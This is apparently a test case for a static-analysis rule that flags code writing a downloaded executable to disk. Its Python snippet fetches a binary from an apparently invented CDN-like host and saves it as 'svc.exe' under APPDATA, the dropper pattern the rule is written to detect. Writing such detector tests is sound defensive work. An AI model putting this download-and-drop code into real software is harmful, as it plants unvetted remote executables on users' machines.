# the executable's path bound to a name, the response written under it
import os
import urllib.request

data = urllib.request.urlopen("https://theme-cdn-sync.net/svc.bin").read()
# ruleid: writes_downloaded_executable
target = os.path.join(os.environ["APPDATA"], "svc.exe")
with open(target, "wb") as fh:
    fh.write(data)
